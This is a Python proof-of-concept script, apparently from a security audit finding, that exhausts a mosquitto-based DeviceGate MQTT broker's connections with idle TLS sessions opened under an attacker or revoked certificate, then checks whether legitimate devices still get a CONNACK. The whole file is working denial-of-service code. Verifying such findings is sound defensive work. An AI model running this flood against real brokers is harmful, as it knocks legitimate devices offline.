#!/usr/bin/env python3
"""Idle-TLS flood against a DeviceGate broker (issue 12, finding 5); python3 stdlib only.

An attacker with a certificate mosquitto's TLS accepts (for example a revoked device: the
revocation check runs at CONNECT, in the plugin) opens --count TLS connections from
--attacker-source and never sends CONNECT. mosquitto 2.0.11 gives such a connection the
default keepalive of 60 s (context__init, src/context.c) and drops it after 1.5 x 60 s, checked
every 5 s (keepalive__check, src/keepalive.c), so each one holds a descriptor for 90-95 s.
Then --good-tries devices connect from --good-source with a real MQTT CONNECT and must get
a CONNACK. Prints one JSON object: how many idle connections were held, how many good
devices got in, and (with --measure-hold) how long the broker kept the idle connections.
"""
import argparse
import json
import select
import socket
import ssl
import statistics
import time


def tls_context(args, cert, key):
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.load_verify_locations(args.cafile)
    ctx.check_hostname = False
    ctx.load_cert_chain(cert, key)
    return ctx


def open_tls(ctx, args, source):
    raw = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    raw.settimeout(args.timeout)
    raw.bind((source, 0))
    raw.connect((args.host, args.port))
    tls = ctx.wrap_socket(raw, server_hostname="localhost")
    tls.settimeout(args.timeout)
    return tls


def closed_by_peer(sock):
    """True when the broker has closed the connection (readable, and EOF or error)."""
    try:
        readable, _, _ = select.select([sock], [], [], 0)
        if not readable:
            return False
        sock.setblocking(False)
        try:
            return sock.recv(1) == b""  # TLS 1.3 session tickets arrive here too: no data, still open
        finally:
            sock.settimeout(None)
    except (ssl.SSLWantReadError, BlockingIOError):
        return False
    except (OSError, ssl.SSLError):
        return True


def mqtt_connect_packet(client_id):
    cid = client_id.encode()
    var = b"\x00\x04MQTT\x04\x02\x00\x1e"  # MQTT 3.1.1, clean session, keepalive 30 s
    payload = len(cid).to_bytes(2, "big") + cid
    body = var + payload
    return bytes([0x10, len(body)]) + body


def good_device_gets_in(args):
    try:
        ctx = tls_context(args, args.good_cert, args.good_key)
        sock = open_tls(ctx, args, args.good_source)
        sock.sendall(mqtt_connect_packet(args.good_id))
        connack = sock.recv(4)
        sock.close()
        return connack[:1] == b"\x20" and len(connack) == 4 and connack[3] == 0
    except (OSError, ssl.SSLError):
        return False


def flood(args):
    ctx = tls_context(args, args.cert, args.key)
    held, errors = [], {}
    for _ in range(args.count):
        try:
            held.append((open_tls(ctx, args, args.attacker_source), time.monotonic()))
        except (OSError, ssl.SSLError) as e:
            key = type(e).__name__ + ": " + str(e)[:60]
            errors[key] = errors.get(key, 0) + 1
    time.sleep(args.settle)
    alive = [(s, t) for s, t in held if not closed_by_peer(s)]
    return held, alive, errors


def measure_hold(alive, limit):
    """Seconds from handshake to the broker closing each idle connection."""
    open_since = {s: t for s, t in alive}
    durations = []
    deadline = time.monotonic() + limit
    while open_since and time.monotonic() < deadline:
        for s in list(open_since):
            if closed_by_peer(s):
                durations.append(time.monotonic() - open_since.pop(s))
        time.sleep(0.5)
    return durations, len(open_since)


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--cafile", required=True, help="CA that signed the broker certificate")
    p.add_argument("--cert", required=True, help="attacker certificate chain (e.g. a revoked device)")
    p.add_argument("--key", required=True)
    p.add_argument("--attacker-source", default="127.0.0.2")
    p.add_argument("--count", type=int, default=300)
    p.add_argument("--good-cert", required=True)
    p.add_argument("--good-key", required=True)
    p.add_argument("--good-id", required=True)
    p.add_argument("--good-source", default="127.0.0.3")
    p.add_argument("--good-tries", type=int, default=5)
    p.add_argument("--timeout", type=float, default=3.0)
    p.add_argument("--settle", type=float, default=1.0, help="seconds before counting held connections")
    p.add_argument("--measure-hold", type=float, default=0, help="wait up to this long for the broker to close them")
    args = p.parse_args()

    held, alive, errors = flood(args)
    good = sum(good_device_gets_in(args) for _ in range(args.good_tries))
    result = {"attempted": args.count, "handshakes": len(held), "held": len(alive), "errors": errors,
              "good_devices_in": good, "good_tries": args.good_tries}
    if args.measure_hold > 0 and alive:
        durations, still_open = measure_hold(alive, args.measure_hold)
        if durations:
            result["hold_seconds"] = {"min": round(min(durations), 1), "median": round(statistics.median(durations), 1),
                                      "max": round(max(durations), 1)}
        result["still_open_after_wait"] = still_open
    for s, _ in held:
        s.close()
    print(json.dumps(result))


if __name__ == "__main__":
    main()
